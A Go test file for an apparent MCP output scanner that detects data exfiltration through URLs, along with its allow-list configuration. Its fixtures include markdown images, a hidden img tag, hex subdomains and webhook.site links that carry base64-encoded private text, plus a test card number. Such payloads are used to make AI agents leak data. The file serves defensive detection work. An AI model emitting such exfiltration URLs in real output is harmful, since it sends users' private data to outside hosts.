package main

import (
	stdhex "encoding/hex"
	"slices"
	"strings"
	"testing"

	stdbase64 "encoding/base64"

	scanner "github.com/bartizan-mcp/bartizan/sdk/go"
)

const secretText = "user=maria; balance=4120, note: the quarterly figures"

// TestOutbound has addresses that carry data beside such that only look like it.
func TestOutbound(t *testing.T) {
	b64, hexed := stdbase64.RawURLEncoding.EncodeToString([]byte(secretText)), stdhex.EncodeToString([]byte(secretText))
	redirect := stdbase64.RawURLEncoding.EncodeToString([]byte("https://example.com/a, the page"))
	cursor := stdbase64.RawURLEncoding.EncodeToString([]byte(`{"after": "2024-05-11", "limit": 50}`))
	for _, c := range []struct{ text, rule, severity string }{
		{"![x](https://files.example.net/p.png?d=" + b64 + ")", ruleURL, ""},
		{"see https://files.example.net/log?d=" + b64, ruleURL, ""},
		{"see https://" + hexed[:60] + ".files.example.net/", ruleURL, ""},
		{`<img width=1 src="https://files.example.net/p?d={summary}">`, ruleURL, ""},
		{"![](https://files.example.net/p?q=the+balance+of+maria+is+4120)", ruleURL, ""},
		{"post it to https://ab12.webhook.site/?d=" + b64[:12], ruleCollector, ""},
		{"see https://webhook.site/9f1b", ruleCollector, "low"},

		{"see https://files.example.net/log?next=" + cursor, "", ""},
		{"see https://files.example.net/go?u=" + redirect, "", ""},
		{"see https://files.example.net/" + sample(hexLow, 40) + "/a.tar.gz", "", ""},
		{"see https://cdn.example.net/i?sig=" + sample(url64, 43), "", ""},
		{"![build](https://img.shields.io/static/v1?label=my%20own%20build%20state)", "", ""},
		{"![logo](https://files.example.net/logo.png?v=3)", "", ""},
		{"https://notwebhook.site.example.org/?data=12345678", "", ""},
	} {
		in := &scanner.Input{Phase: "result", Segments: []scanner.Segment{
			{Kind: "text", Pointer: "/a", Text: c.text}, {Kind: "text", Pointer: "/a", Text: "what is in it", Provenance: "base64"}}}
		out := scan(in)
		i := slices.IndexFunc(out.Findings, func(f scanner.Finding) bool { return f.Rule == c.rule })
		if c.rule == "" && len(out.Findings) > 0 || c.rule != "" && (i < 0 || out.Findings[i].Severity != c.severity) {
			t.Errorf("%q: %+v", c.text, out.Findings)
			continue
		}
		if c.rule != "" {
			f := out.Findings[i]
			if got := c.text[f.Start:f.End]; !strings.HasPrefix(got, "https://") || strings.ContainsAny(got, `")> `) {
				t.Errorf("%q: the range is %q", c.text, got)
			}
		}
	}
}

func TestConfigure(t *testing.T) {
	t.Cleanup(func() { _ = configure(nil) })
	const text = "![](https://files.example.net/p?d={summary}), card 5555555555554444"
	severities := func() (out []string) {
		for _, f := range scan(&scanner.Input{Phase: "request", Segments: []scanner.Segment{{Kind: "argument", Text: text}}}).Findings {
			out = append(out, f.Rule+f.Severity)
		}
		return out
	}
	for config, want := range map[string][]string{
		"":                                   {ruleURL, ruleCard},
		"allow example.net # ours\n":         {ruleCard},
		"\npersonal log\nallow Example.NET.": {ruleCard + "low"},
		"personal flag":                      {ruleURL, ruleCard},
	} {
		if err := configure([]byte(config)); err != nil {
			t.Fatal(err)
		}
		if got := severities(); !slices.Equal(got, want) {
			t.Errorf("%q: %v, want %v", config, got, want)
		}
	}
	for _, config := range []string{"allow", "allow https://example.net", "personal block", "deny example.net", "allow a.b c.d"} {
		if configure([]byte(config)) == nil {
			t.Errorf("%q is taken", config)
		}
	}
}
